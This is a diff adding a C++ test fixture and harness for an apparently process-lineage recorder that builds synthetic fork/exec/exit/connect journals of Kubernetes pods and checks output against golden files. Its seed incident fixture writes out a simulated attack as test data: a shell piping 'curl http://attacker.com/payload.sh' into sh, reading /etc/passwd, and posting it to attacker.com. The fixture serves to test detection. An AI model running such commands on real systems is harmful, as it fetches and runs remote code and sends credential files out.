@@ -1,0 +1,507 @@
+#include "fixture_journal.h"
+
+#include <fcntl.h>
+#include <spawn.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <algorithm>
+#include <cerrno>
+#include <cstdlib>
+#include <cstring>
+#include <filesystem>
+#include <fstream>
+#include <sstream>
+#include <stdexcept>
+#include <string>
+
+#include <fmt/format.h>
+
+extern char** environ;
+
+namespace fixture {
+
+namespace {
+
+constexpr size_t kRowsPerBatch = 8;
+constexpr uint64_t kSnapshotDelay = 1'000'000;  // /proc is read 1 ms after the run starts
+
+std::string base_name(const std::string& path) {
+    auto slash = path.rfind('/');
+    return slash == std::string::npos ? path : path.substr(slash + 1);
+}
+
+std::string join_argv(const std::vector<std::string>& argv) {
+    std::string raw;
+    for (const auto& a : argv) {
+        raw += a;
+        raw.push_back('\0');
+    }
+    return raw;
+}
+
+template <typename T>
+void check(const lineage::Result<T>& r, const char* what) {
+    if (!r) throw std::runtime_error(fmt::format("fixture: {}: {}", what, r.error().message));
+}
+
+}  // namespace
+
+std::string pod_cgroup(const std::string& pod_uid_dashed, const std::string& container_id_hex64) {
+    std::string uid = pod_uid_dashed;
+    std::replace(uid.begin(), uid.end(), '-', '_');
+    return "/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod" + uid + ".slice/cri-containerd-" +
+           container_id_hex64 + ".scope";
+}
+
+FixtureJournal::FixtureJournal(RunOptions run) : run_(std::move(run)) {}
+
+int64_t FixtureJournal::wall(uint64_t boot_ns) const {
+    return static_cast<int64_t>(boot_ns) + (run_.clock_wall_ns - static_cast<int64_t>(run_.clock_boot_ns));
+}
+
+std::string FixtureJournal::key(Proc p) { return fmt::format("{}:{}", p.tgid, p.start_ns); }
+
+FixtureJournal::Tracked& FixtureJournal::track(Proc p) {
+    auto [it, inserted] = procs_.try_emplace(key(p));
+    if (inserted) {
+        it->second.nspid = p.tgid;
+        it->second.cgroup = "/";
+        it->second.nodename = run_.node;
+    }
+    return it->second;
+}
+
+void FixtureJournal::push(uint64_t t, lineage::Event e) { rows_.push_back(Row{t, seq_++, std::move(e), std::nullopt}); }
+
+Proc FixtureJournal::snapshot(uint32_t tgid, uint32_t ppid, uint64_t start_ns, const std::string& comm,
+                              const std::string& exe, const std::vector<std::string>& argv,
+                              const std::string& cgroup, const std::string& nodename, uint32_t nspid) {
+    const uint64_t tick = 1'000'000'000ULL / static_cast<uint64_t>(run_.clk_tck);
+    lineage::SnapshotRow row;
+    row.time_ns = static_cast<int64_t>(run_.started_ns + kSnapshotDelay);
+    row.tgid = tgid;
+    row.nspid = nspid ? nspid : tgid;
+    row.ppid = ppid;
+    row.start_ns = start_ns / tick * tick;
+    row.comm = comm.substr(0, 15);
+    row.exe = exe;
+    row.argv = join_argv(argv);
+    row.cgroup_path = cgroup;
+    row.nodename = nodename;
+    snapshot_.push_back(row);
+    Tracked& t = track(Proc{tgid, start_ns});
+    t.comm = row.comm;
+    t.cgroup = cgroup;
+    t.nodename = nodename;
+    t.nspid = row.nspid;
+    return Proc{tgid, start_ns};
+}
+
+void FixtureJournal::fork(Proc parent, Proc child, uint64_t t) {
+    const Tracked& p = track(parent);
+    Tracked c = p;  // a child runs its parent's image, in its cgroup and UTS namespace
+    c.forker = parent;
+    c.exited_at.reset();
+    c.nspid = child.tgid;
+    procs_[key(child)] = c;
+    lineage::ForkEvent e;
+    e.time_ns = t;
+    e.parent = parent;
+    e.child = child;
+    e.parent_comm = p.comm;
+    push(t, e);
+}
+
+void FixtureJournal::exec(Proc p, const std::string& binary, const std::vector<std::string>& argv, uint64_t t,
+                          ExecOpts opts) {
+    Tracked& tr = track(p);
+    if (opts.cgroup) tr.cgroup = *opts.cgroup;
+    if (opts.nodename) tr.nodename = *opts.nodename;
+    if (opts.nspid) tr.nspid = *opts.nspid;
+    lineage::ExecEvent e;
+    e.time_ns = t;
+    e.proc = p;
+    if (opts.parent) {
+        e.parent = *opts.parent;
+    } else if (tr.forker) {
+        const Tracked& f = track(*tr.forker);
+        e.parent = f.exited_at && *f.exited_at <= t ? reaper_ : *tr.forker;
+    } else {
+        e.parent = reaper_;
+    }
+    e.parent_comm = track(e.parent).comm;
+    e.nspid = tr.nspid;
+    e.old_tid = p.tgid;
+    e.uid = opts.uid;
+    e.gid = opts.gid;
+    e.euid = opts.euid;
+    e.truncated = opts.truncated;
+    e.cgroup_id = 4242;
+    e.comm = opts.comm ? *opts.comm : base_name(binary).substr(0, 15);
+    tr.comm = e.comm;
+    e.nodename = tr.nodename;
+    e.cgroup_path = tr.cgroup;
+    e.binary = binary;
+    e.argv = opts.raw_argv ? *opts.raw_argv : join_argv(argv);
+    push(t, e);
+}
+
+void FixtureJournal::exec(Proc p, const std::string& binary, const std::vector<std::string>& argv, uint64_t t,
+                          const std::string& cgroup, const std::string& nodename, std::optional<uint32_t> nspid) {
+    ExecOpts opts;
+    opts.cgroup = cgroup;
+    opts.nodename = nodename;
+    opts.nspid = nspid;
+    exec(p, binary, argv, t, opts);
+}
+
+void FixtureJournal::exit(Proc p, uint64_t t, int code, int signal, bool core_dumped) {
+    Tracked& tr = track(p);
+    tr.exited_at = t;
+    lineage::ExitEvent e;
+    e.time_ns = t;
+    e.proc = p;
+    e.code = code;
+    e.signal = signal;
+    e.core_dumped = core_dumped;
+    e.comm = tr.comm;
+    push(t, e);
+}
+
+void FixtureJournal::connect(Proc p, const std::string& daddr, uint16_t dport, uint64_t t, bool established,
+                             const std::string& saddr, uint16_t sport, int family) {
+    lineage::ConnectEvent e;
+    e.time_ns = t;
+    e.outcome_ns = t + 2'500'000;  // the handshake took 2.5 ms
+    e.proc = p;
+    e.family = family;
+    e.saddr = saddr;
+    e.sport = sport;
+    e.daddr = daddr;
+    e.dport = dport;
+    e.established = established;
+    push(t, e);
+}
+
+void FixtureJournal::loss(uint64_t from_ns, uint64_t to_ns, int64_t count, const std::string& reason) {
+    rows_.push_back(Row{to_ns, seq_++, std::nullopt, LossRow{from_ns, to_ns, count, reason}});
+}
+
+void FixtureJournal::pod(const std::string& pod_uid, const std::string& name, const std::string& ns,
+                         const std::string& source) {
+    pods_.push_back(PodRow{pod_uid, name, ns, source});
+}
+
+void FixtureJournal::write(const std::string& path) const {
+    auto w = lineage::JournalWriter::open(path);
+    check(w, "open");
+    lineage::RunInfo info;
+    info.boot_id = run_.boot_id;
+    info.node = run_.node;
+    info.started_ns = static_cast<int64_t>(run_.started_ns);
+    info.started_wall_ns = wall(run_.started_ns);
+    info.version = "0.1.0-fixture";
+    info.kernel = "6.1.0-fixture #1 SMP PREEMPT_DYNAMIC";
+    info.hooks = "fork,exec,exit,connect";
+    info.filters_json = "{}";
+    info.argv_cap = run_.argv_cap;
+    info.clk_tck = run_.clk_tck;
+    info.recorder_pid = 555;
+    check(w->begin_run(info), "begin_run");
+    if (run_.clock_boot_ns != run_.started_ns) {
+        check(w->add_clock_sample(static_cast<int64_t>(run_.clock_boot_ns), run_.clock_wall_ns), "clock sample");
+    }
+
+    // Batch 1: what the recorder learns at start (the /proc snapshot, pod names).
+    for (const auto& s : snapshot_) check(w->add_snapshot(s), "snapshot");
+    for (const auto& p : pods_) check(w->add_pod(p.uid, p.name, p.ns, p.source), "pod");
+    uint64_t committed = run_.started_ns + kSnapshotDelay;
+    check(w->commit(static_cast<int64_t>(committed)), "commit");
+
+    std::vector<Row> rows = rows_;
+    std::stable_sort(rows.begin(), rows.end(), [](const Row& a, const Row& b) {
+        return a.time_ns != b.time_ns ? a.time_ns < b.time_ns : a.seq < b.seq;
+    });
+    size_t in_batch = 0;
+    for (const auto& r : rows) {
+        if (r.event) {
+            check(w->add(*r.event), "event");
+        } else {
+            check(w->add_loss(static_cast<int64_t>(r.loss->from_ns), static_cast<int64_t>(r.loss->to_ns),
+                              r.loss->count, r.loss->reason),
+                  "loss");
+        }
+        committed = std::max(committed, r.time_ns);
+        if (++in_batch == kRowsPerBatch) {
+            check(w->commit(static_cast<int64_t>(committed)), "commit");
+            in_batch = 0;
+        }
+    }
+    check(w->commit(static_cast<int64_t>(committed)), "commit");
+    if (run_.clean_stop) {
+        check(w->end_run(static_cast<int64_t>(run_.stopped_ns), wall(run_.stopped_ns), "signal",
+                         static_cast<int64_t>(rows.size()), 0),
+              "end_run");
+    }
+    // The writer closes here; a clean stop has folded the WAL back.
+}
+
+void FixtureJournal::load_into(lineage::Model& model, const std::string& journal_name) const {
+    uint64_t last_batch = run_.started_ns + kSnapshotDelay;
+    for (const auto& r : rows_) last_batch = std::max(last_batch, r.time_ns);
+    lineage::RunRecord run;
+    run.journal = journal_name;
+    run.run_id = 1;
+    run.boot_id = run_.boot_id;
+    run.node = run_.node;
+    run.started_ns = static_cast<int64_t>(run_.started_ns);
+    if (run_.clean_stop) {
+        run.stopped_ns = static_cast<int64_t>(run_.stopped_ns);
+        run.stop_reason = "signal";
+    }
+    run.last_batch_ns = static_cast<int64_t>(last_batch);
+    run.clk_tck = run_.clk_tck;
+    run.hooks = "fork,exec,exit,connect";
+    run.filters = "{}";
+    model.add_run(run);
+    model.add_clock_sample(run_.boot_id, static_cast<int64_t>(run_.started_ns), wall(run_.started_ns));
+    model.add_clock_sample(run_.boot_id, static_cast<int64_t>(run_.clock_boot_ns), run_.clock_wall_ns);
+    if (run_.clean_stop) {
+        model.add_clock_sample(run_.boot_id, static_cast<int64_t>(run_.stopped_ns), wall(run_.stopped_ns));
+    }
+    for (const auto& s : snapshot_) model.add_snapshot(run_.boot_id, 1, s);
+    for (const auto& p : pods_) model.add_pod(p.uid, lineage::PodNameRecord{p.name, p.ns, p.source});
+    // The order JournalReader reads in: table by table, rows in time order.
+    std::vector<Row> rows = rows_;
+    std::stable_sort(rows.begin(), rows.end(), [](const Row& a, const Row& b) {
+        return a.time_ns != b.time_ns ? a.time_ns < b.time_ns : a.seq < b.seq;
+    });
+    for (size_t kind = 0; kind < 4; ++kind) {
+        for (const auto& r : rows) {
+            if (!r.event || r.event->index() != kind) continue;
+            std::visit(
+                [&](const auto& e) {
+                    using T = std::decay_t<decltype(e)>;
+                    if constexpr (std::is_same_v<T, lineage::ForkEvent>) model.add_fork(run_.boot_id, e);
+                    else if constexpr (std::is_same_v<T, lineage::ExecEvent>) model.add_exec(run_.boot_id, e);
+                    else if constexpr (std::is_same_v<T, lineage::ExitEvent>) model.add_exit(run_.boot_id, e);
+                    else model.add_connect(run_.boot_id, e);
+                },
+                *r.event);
+        }
+    }
+    for (const auto& r : rows) {
+        if (!r.loss) continue;
+        model.add_loss(lineage::LossRecord{journal_name, run_.boot_id, static_cast<int64_t>(r.loss->from_ns),
+                                           static_cast<int64_t>(r.loss->to_ns), r.loss->count, r.loss->reason});
+    }
+}
+
+lineage::Model FixtureJournal::build_model(const std::string& journal_name) const {
+    lineage::Model model;
+    load_into(model, journal_name);
+    model.finish();
+    return model;
+}
+
+// ---------------------------------------------------------------- harness
+
+TempDir::TempDir() {
+    const char* tmp = std::getenv("TMPDIR");
+    std::string tmpl = std::string(tmp && *tmp ? tmp : "/tmp") + "/lineage-test.XXXXXX";
+    std::vector<char> buf(tmpl.begin(), tmpl.end());
+    buf.push_back('\0');
+    if (!mkdtemp(buf.data())) throw std::runtime_error(std::string("mkdtemp: ") + std::strerror(errno));
+    path_ = buf.data();
+}
+
+TempDir::~TempDir() {
+    std::error_code ec;
+    std::filesystem::remove_all(path_, ec);
+}
+
+std::string read_file(const std::string& path) {
+    std::ifstream in(path, std::ios::binary);
+    if (!in) throw std::runtime_error("cannot read " + path);
+    std::ostringstream ss;
+    ss << in.rdbuf();
+    return ss.str();
+}
+
+void write_file(const std::string& path, const std::string& bytes) {
+    std::ofstream out(path, std::ios::binary | std::ios::trunc);
+    out.write(bytes.data(), static_cast<std::streamsize>(bytes.size()));
+    if (!out) throw std::runtime_error("cannot write " + path);
+}
+
+RunResult run_process(const std::vector<std::string>& command, const std::string& cwd, const EnvEdits& edits) {
+    const char* tmp = std::getenv("TMPDIR");
+    std::string err_tmpl = std::string(tmp && *tmp ? tmp : "/tmp") + "/lineage-test-stderr.XXXXXX";
+    int err_fd = mkostemp(err_tmpl.data(), O_CLOEXEC);
+    if (err_fd < 0) throw std::runtime_error(std::string("mkostemp: ") + std::strerror(errno));
+    ::close(err_fd);
+    const std::string err_path = err_tmpl;
+
+    std::map<std::string, std::string> env;
+    for (char** e = environ; *e; ++e) {
+        std::string kv = *e;
+        auto eq = kv.find('=');
+        if (eq != std::string::npos) env[kv.substr(0, eq)] = kv.substr(eq + 1);
+    }
+    env.erase("NO_COLOR");
+    env["TZ"] = "UTC";
+    for (const auto& [k, v] : edits) {
+        if (v) env[k] = *v;
+        else env.erase(k);
+    }
+    std::vector<std::string> env_strings;
+    for (const auto& [k, v] : env) env_strings.push_back(k + "=" + v);
+    std::vector<char*> envp;
+    for (auto& s : env_strings) envp.push_back(s.data());
+    envp.push_back(nullptr);
+
+    std::vector<std::string> argv_strings = command;
+    std::vector<char*> argv;
+    for (auto& s : argv_strings) argv.push_back(s.data());
+    argv.push_back(nullptr);
+
+    // stdout is a pipe, as with popen(); stderr a file, so there is only one
+    // pipe to drain and no deadlock.
+    int out_pipe[2];
+    if (pipe2(out_pipe, O_CLOEXEC) != 0) throw std::runtime_error(std::string("pipe2: ") + std::strerror(errno));
+    posix_spawn_file_actions_t fa;
+    posix_spawn_file_actions_init(&fa);
+    posix_spawn_file_actions_addopen(&fa, 0, "/dev/null", O_RDONLY, 0);
+    posix_spawn_file_actions_adddup2(&fa, out_pipe[1], 1);
+    posix_spawn_file_actions_addopen(&fa, 2, err_path.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
+    posix_spawn_file_actions_addchdir_np(&fa, cwd.c_str());
+    pid_t pid = -1;
+    int rc = posix_spawn(&pid, argv[0], &fa, nullptr, argv.data(), envp.data());
+    posix_spawn_file_actions_destroy(&fa);
+    ::close(out_pipe[1]);
+    if (rc != 0) {
+        ::close(out_pipe[0]);
+        throw std::runtime_error(fmt::format("posix_spawn {}: {}", argv[0], std::strerror(rc)));
+    }
+    RunResult r;
+    char buf[1 << 16];
+    for (;;) {
+        ssize_t n = ::read(out_pipe[0], buf, sizeof(buf));
+        if (n > 0) {
+            r.out.append(buf, static_cast<size_t>(n));
+        } else if (n == 0 || errno != EINTR) {
+            break;
+        }
+    }
+    ::close(out_pipe[0]);
+    int wstatus = 0;
+    while (waitpid(pid, &wstatus, 0) < 0) {
+        if (errno != EINTR) throw std::runtime_error(std::string("waitpid: ") + std::strerror(errno));
+    }
+    r.status = WIFEXITED(wstatus) ? WEXITSTATUS(wstatus) : 128 + WTERMSIG(wstatus);
+    r.err = read_file(err_path);
+    std::filesystem::remove(err_path);
+    return r;
+}
+
+RunResult run_lineage(const std::vector<std::string>& args, const std::string& cwd, const EnvEdits& edits) {
+    std::vector<std::string> command{LINEAGE_BIN};
+    command.insert(command.end(), args.begin(), args.end());
+    return run_process(command, cwd, edits);
+}
+
+std::string golden_path(const std::string& name) { return std::string(LINEAGE_SOURCE_DIR) + "/testdata/golden/" + name; }
+
+bool update_goldens() {
+    const char* v = std::getenv("LINEAGE_UPDATE_GOLDEN");
+    return v && std::string(v) == "1";
+}
+
+std::string golden_mismatch(const std::string& name, const std::string& actual) {
+    const std::string path = golden_path(name);
+    if (update_goldens()) {
+        std::filesystem::create_directories(std::filesystem::path(path).parent_path());
+        write_file(path, actual);
+        return "";
+    }
+    if (!std::filesystem::exists(path)) {
+        return fmt::format("golden file {} is missing; run with LINEAGE_UPDATE_GOLDEN=1 to create it, then "
+                           "review it", path);
+    }
+    const std::string expected = read_file(path);
+    if (expected == actual) return "";
+    // First differing line, 1-based, both versions (shortened).
+    size_t line = 1, pos = 0;
+    while (pos < expected.size() && pos < actual.size() && expected[pos] == actual[pos]) {
+        if (expected[pos] == '\n') ++line;
+        ++pos;
+    }
+    auto line_at = [&](const std::string& s) {
+        size_t start = s.rfind('\n', pos == 0 ? 0 : pos - 1);
+        start = (start == std::string::npos || pos == 0) ? 0 : start + 1;
+        size_t end = s.find('\n', pos);
+        std::string l = s.substr(start, end == std::string::npos ? std::string::npos : end - start);
+        if (l.size() > 300) l = l.substr(0, 300) + "...";
+        return l;
+    };
+    return fmt::format("output differs from {} (expected {} bytes, got {}) at line {}:\n  golden: {}\n  actual: {}\n"
+                       "(LINEAGE_UPDATE_GOLDEN=1 rewrites the goldens; review the diff before keeping it)",
+                       path, expected.size(), actual.size(), line, line_at(expected), line_at(actual));
+}
+
+// ---------------------------------------------------------------- the seed incident
+
+FixtureJournal incident_fixture() {
+    FixtureJournal fx;
+    const std::string pod_cg = pod_cgroup(kIncidentPodUid, kIncidentContainer);
+    const std::string host_cg = "/system.slice/containerd.service";
+
+    Proc init = fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd",
+                            {"/sbin/init", "splash"}, "/init.scope");
+    Proc shim = fx.snapshot(18150, 1, at(940, 801'234'567), "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
+                            {"/usr/bin/containerd-shim-runc-v2", "-namespace", "k8s.io", "-id",
+                             kIncidentContainer.substr(0, 12), "-address", "/run/containerd/containerd.sock"},
+                            host_cg);
+    fx.pod(kIncidentPodUid, kIncidentPodName, kIncidentNamespace, "log-dir");
+
+    Proc app = FixtureJournal::proc(18201, at(1000, 123'456'789));
+    fx.fork(shim, app, at(1000, 123'456'789));
+    fx.exec(app, "/usr/local/bin/my-app", {"/usr/local/bin/my-app", "--port", "8080"}, at(1000, 130'000'000),
+            pod_cg, kIncidentPodName, 1);
+    fx.connect(app, "10.96.14.2", 5432, at(1000, 480'000'000));  // its database, as usual
+
+    Proc sh1 = FixtureJournal::proc(18293, at(1042, 500'012'345));
+    fx.fork(app, sh1, at(1042, 500'012'345));
+    fx.exec(sh1, "/bin/sh", {"sh", "-c", "curl http://attacker.com/payload.sh | sh"}, at(1042, 501'000'000),
+            pod_cg, kIncidentPodName, 27);
+
+    Proc sh2 = FixtureJournal::proc(18294, at(1042, 900'111'222));
+    fx.fork(sh1, sh2, at(1042, 900'111'222));
+    fx.exec(sh2, "/bin/sh", {"sh", "payload.sh"}, at(1042, 901'000'000), pod_cg, kIncidentPodName, 28);
+
+    Proc cat = FixtureJournal::proc(18295, at(1043, 100'000'001));
+    fx.fork(sh2, cat, at(1043, 100'000'001));
+    fx.exec(cat, "/bin/cat", {"cat", "/etc/passwd"}, at(1043, 101'000'000), pod_cg, kIncidentPodName, 29);
+    fx.exit(cat, at(1043, 104'000'000), 0);
+
+    Proc curl = FixtureJournal::proc(18296, at(1043, 200'000'002));
+    fx.fork(sh2, curl, at(1043, 200'000'002));
+    fx.exec(curl, "/usr/bin/curl", {"curl", "http://attacker.com/exfil", "-d", "@/etc/passwd"},
+            at(1043, 201'000'000), pod_cg, kIncidentPodName, 30);
+    fx.connect(curl, "93.184.216.34", 80, at(1043, 350'000'000));
+    fx.exit(curl, at(1043, 900'000'000), 0);
+
+    fx.exit(sh2, at(1044, 0), 0);
+    fx.exit(sh1, at(1044, 10'000'000), 0);
+
+    // The node's own activity in the same minute: never part of the pod's tree.
+    Proc jctl = FixtureJournal::proc(19000, at(1050, 250'000'000));
+    fx.fork(init, jctl, at(1050, 250'000'000));
+    fx.exec(jctl, "/usr/bin/journalctl", {"journalctl", "-u", "kubelet", "--since", "-5m"}, at(1050, 251'000'000),
+            "/system.slice/cron.service", "node-1");
+    fx.exit(jctl, at(1050, 700'000'000), 0);
+    return fx;
+}
+
+}  // namespace fixture
